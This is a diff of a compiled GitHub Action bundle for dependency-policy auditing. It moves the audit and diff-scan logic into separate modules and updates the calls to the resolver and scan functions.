-        components.forEach((c, k) => {
-            const findings = evaluator.judge(c);
-            if (findings.length > 0)
-                judged.push({ file: entries[k].file, index: entries[k].index, findings });
-        });
-        count += components.length;
-    };
-    // Manifest entries wait for every lockfile; their names are what the lockfiles must remember.
-    // Manifest files are handed over first, so every such name is known before any lockfile entry.
-    const manifests = [];
-    const manifestNames = new Map();
-    const locked = new reconcile/* LockedVersions */.oi(manifestNames);
-    const totals = await (0,engine/* inventoryEach */.U2)(source, { limits: options.limits ?? model_limits/* defaultLimits */.MK, first: reconcile/* isManifestPath */.HS }, async (file, list) => {
-        const now = [];
-        list.forEach((c, index) => {
-            if ((0,reconcile/* isManifestEntry */.SY)(c)) {
-                manifests.push({ file, c, index });
-                const name = (0,names/* normalizeName */.Pc)(c.ecosystem, c.name);
-                manifestNames.set((0,reconcile/* wantedKey */.tY)(c.ecosystem, name), name);
-            }
-            else {
-                locked.note(c);
-                now.push({ file, c, index });
-            }
-        });
-        if (now.length > 0)
-            await judge(now);
-    });
-    // One resolver call for every manifest entry left: their look-ups run concurrently.
-    await judge(manifests.filter((m) => !locked.pins(m.c)));
-    judged.sort((a, b) => (a.file < b.file ? -1 : a.file > b.file ? 1 : a.index - b.index));
-    return (0,gate_report/* buildReport */.FK)({
-        mode: 'audit',
-        findings: judged.flatMap((j) => j.findings),
-        errors: [...totals.errors, ...resolverErrors],
-        notices: evaluator.notices(),
-        filesScanned: totals.filesScanned,
-        components: count,
-        policySources: options.policy.sources,
-        ...(options.policyName ? { policyName: options.policyName } : {}),
-    });
-}
-/**
- * Diff mode: the findings at head, each `introduced` or `unchanged` against base, plus the base
- * findings that are gone (`removed`). One policy (the base's) judges both sides.
- */
-async function diffScan(base, head, options) {
-    const limits = options.limits ?? model_limits/* defaultLimits */.MK;
-    const filter = relevance_nameFilter(options.policy, src_catalog/* catalog */.U$);
-    const d = await diffInventory(base, head, {
-        limits,
-        nameFilter: filter,
-        ...(options.failOn === 'any' ? { parseEveryFile: true } : {}),
-        ...(options.changed ? { changed: options.changed } : {}),
-        ...(options.renames ? { renames: options.renames } : {}),
-        ...(options.detectors ? { detectors: options.detectors } : {}),
-    });
-    let headComponents = (0,reconcile/* reconcileManifests */.fU)(d.head.components);
-    let baseComponents = (0,reconcile/* reconcileManifests */.fU)(d.baseComponents);
-    if (options.resolve) {
-        headComponents = await resolveRelevant(options.resolve, headComponents, d.head.errors, filter);
-        baseComponents = await resolveRelevant(options.resolve, baseComponents, d.baseErrors, filter);
-    }
-    const evalOptions = {
-        catalog: src_catalog/* catalog */.U$,
-        ...(options.now ? { now: options.now } : {}),
-        ...(options.pathPrefix ? { pathPrefix: options.pathPrefix } : {}),
-    };
-    const atHead = (0,evaluate/* evaluate */._3)(headComponents, options.policy, evalOptions);
-    const atBase = (0,evaluate/* evaluate */._3)(baseComponents, options.policy, evalOptions);
-    return (0,gate_report/* buildReport */.FK)({
-        mode: 'diff',
-        findings: classifyFindings(atBase.findings, atHead.findings, d.renames),
-        errors: d.headErrors,
-        notices: [...(options.notices ?? []), ...atHead.notices],
-        diff: { base: base.description, head: head.description, baseErrors: d.baseErrors },
-        filesScanned: d.head.filesScanned,
-        components: headComponents.length,
-        unchangedNotParsed: d.notParsed,
-        policySources: options.policy.sources,
-        ...(options.policyName ? { policyName: options.policyName } : {}),
-    });
-}
-function inventoryReport(inv) {
-    return {
-        schemaVersion: 1,
-        components: inv.components,
-        errors: inv.errors,
-        summary: { filesScanned: inv.filesScanned, components: inv.components.length },
-    };
-}
-
+// EXTERNAL MODULE: ./src/resolver/index.ts + 4 modules
+var resolver = __nccwpck_require__(70007);
+// EXTERNAL MODULE: ./src/gate/scan.ts
+var scan = __nccwpck_require__(46458);
 // EXTERNAL MODULE: ./src/sources/directory.ts
 var directory = __nccwpck_require__(36253);
 // EXTERNAL MODULE: ./src/sources/git.ts
@@ -92922,6 +92989,8 @@ function resolveMode(mode, refs, inputs) {
     return { mode: 'diff', base, ...(head ? { head } : {}) };
 }
 
+// EXTERNAL MODULE: ./src/policy/evaluate.ts + 1 modules
+var evaluate = __nccwpck_require__(84813);
 // EXTERNAL MODULE: ./src/detectors/component.ts
 var component = __nccwpck_require__(68516);
 ;// CONCATENATED MODULE: ./src/host/layouts/layout.ts
@@ -93065,6 +93134,8 @@ const homebrewKegs = {
     },
 };
 
+// EXTERNAL MODULE: ./node_modules/semver/index.js
+var action_semver = __nccwpck_require__(62088);
 ;// CONCATENATED MODULE: ./src/host/layouts/native.ts
 // Vendor installers' own layouts. Claude Code's native installer (claude.ai/install.sh, .ps1, .cmd)
 // keeps each version at `~/.local/share/claude/versions/<version>` (on Windows under
@@ -94341,7 +94412,7 @@ async function readPayload(path) {
 async function run(env = process.env) {
     // The org audit's code is loaded only in that mode.
     if (lib_core.getInput('mode').trim() === 'org-audit')
-        return (await __nccwpck_require__.e(/* import() */ 450).then(__nccwpck_require__.bind(__nccwpck_require__, 30450))).runOrgAudit(env);
+        return (await __nccwpck_require__.e(/* import() */ 675).then(__nccwpck_require__.bind(__nccwpck_require__, 15675))).runOrgAudit(env);
     const closers = [];
     try {
         const workspace = (0,external_node_path_.resolve)(env.GITHUB_WORKSPACE || process.cwd());
@@ -94405,14 +94476,14 @@ async function run(env = process.env) {
         const readGithub = (owner, r, path, ref) => (0,github_files/* readGithubFileWith */.K4)(api(), owner, r, path, ref);
         // --- registry look-ups for unpinned specs --------------------------------------------------
         const registry = lib_core.getInput('registry').trim();
-        if (registry !== '' && normalizeRegistry(registry) === null)
+        if (registry !== '' && (0,resolver/* normalizeRegistry */.l5)(registry) === null)
             throw new Error(`input registry must be an http(s) URL, not "${registry}"`);
         const offlineInput = lib_core.getInput('offline').trim().toLowerCase() || 'false';
         if (offlineInput !== 'true' && offlineInput !== 'false')
             throw new Error(`input offline must be true or false, not "${lib_core.getInput('offline')}"`);
         // The .npmrc comes from the trusted side (the base commit in diff mode): a pull request cannot
         // point look-ups at a registry of its choosing.
-        const resolverFor = async (trusted) => auditResolveHook(createNpmResolver({
+        const resolverFor = async (trusted) => (0,resolver/* auditResolveHook */.xl)((0,resolver/* createNpmResolver */.S_)({
             root,
             offline: offlineInput === 'true',
             env: process.env,
@@ -94468,7 +94539,7 @@ async function run(env = process.env) {
             lib_core.info(`Policy: ${origin} (${digest})`);
             rules = policy.rules;
             saveRunnerAuditState(policy, origin);
-            report = await diffScan(base.scan, head.scan, {
+            report = await (0,scan/* diffScan */.LS)(base.scan, head.scan, {
                 policy,
                 policyName: { source: origin, digest },
                 pathPrefix: prefix,
@@ -94495,7 +94566,7 @@ async function run(env = process.env) {
             lib_core.info(`Policy: ${origin} (${digest})`);
             rules = policy.rules;
             saveRunnerAuditState(policy, origin);
-            report = await audit(head.scan, {
+            report = await (0,scan/* audit */.sb)(head.scan, {
                 policy,
                 policyName: { source: origin, digest },
                 pathPrefix: prefix,
